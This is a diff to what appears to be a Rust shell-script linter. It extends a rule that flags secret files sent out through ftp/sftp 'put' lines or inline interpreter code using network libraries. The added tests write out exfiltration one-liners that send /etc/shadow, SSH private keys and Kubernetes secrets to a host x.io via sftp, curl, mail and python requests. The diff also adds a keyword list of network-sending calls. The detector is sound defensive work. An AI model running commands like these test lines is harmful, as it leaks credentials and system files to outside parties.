@@ -4,6 +4,7 @@ use crate::secret_paths::{Kind, Secret, secret};
 use super::reading;
 use super::sending::{self, Form, Sent};
 use crate::rules::{Check, Level, Sink};
+use crate::flow::Value;
 use crate::script::{PartKind, Command, RedirectOperator, Statement, StatementKind};
 
 rule! {
@@ -61,6 +62,19 @@ fn check(command: &Command, sink: &mut Sink<'_>) {
             report(it.word.span, secret, it.carried, sink);
             return;
         }
+    }
+    // `put FILE`, typed to `ftp`; a file that a line of another language opens and sends.
+    let typed = matches!(command.program.as_deref(), Some("ftp" | "sftp" | "lftp" | "tftp" | "smbclient")).then(|| sink.input(command)).flatten();
+    let mut lines: Vec<String> = typed.iter().flat_map(Value::texts).flat_map(str::lines).map(str::to_owned).collect();
+    lines.retain(|it| it.trim_start().starts_with("put ") || it.trim_start().starts_with("mput "));
+    if matches!(command.program.as_deref(), Some("python" | "python3" | "perl" | "ruby" | "php" | "node")) {
+        let code = command.flags().filter_map(|it| it.value.as_ref()).filter_map(|it| sink.text_of(it));
+        let sends = |it: &String| ["requests.", "urlopen", "socket", "http.client", "Net::HTTP", "LWP", "fetch(", "https.request", "curl_"].iter().any(|that| it.contains(that));
+        lines.extend(code.filter(sends));
+    }
+    let words = lines.iter().flat_map(|it| it.split([' ', '\'', '"', '(', ')', ';']));
+    if let Some(found) = words.filter(|it| it.contains(['/', '.'])).find_map(secret) {
+        report(command.span, found, false, sink);
     }
     if let Some(carried) = sending::sends_input(command, sink) {
         let read = command.redirects.iter().filter(|it| matches!(it.operator, RedirectOperator::Read | RedirectOperator::HereString));
@@ -212,6 +226,16 @@ mod tests {
         ] {
             check_marks(script);
         }
+    }
+
+    #[test]
+    fn other_programs_have_other_words() {
+        check_marks("sftp x.io <<E\nput /etc/shadow\nE\n#mark 0 0 13 CARO0505\n");
+        check_marks("curl \"x.io/$(< ~/.ssh/id_rsa)\"\n#mark 0 5 30 CARO0505\n");
+        check_marks("mail -a ~/.ssh/id_rsa -s x a@x.io < /dev/null\n#mark 0 8 21 CARO0505\n");
+        check_marks("kubectl get secrets -A -o yaml | curl -d @- x.io\n#mark 0 33 48 CARO0505\n");
+        check_marks("python3 -c 'requests.post(u, data=open(\"/root/.ssh/id_rsa\"))'\n#mark 0 0 61 CARO0505\n");
+        check_marks("python3 -c 'print(open(\"x.key\").read())'\nsftp x.io <<E\nget .env\nput app.zip\nE\n");
     }
 
     #[test]
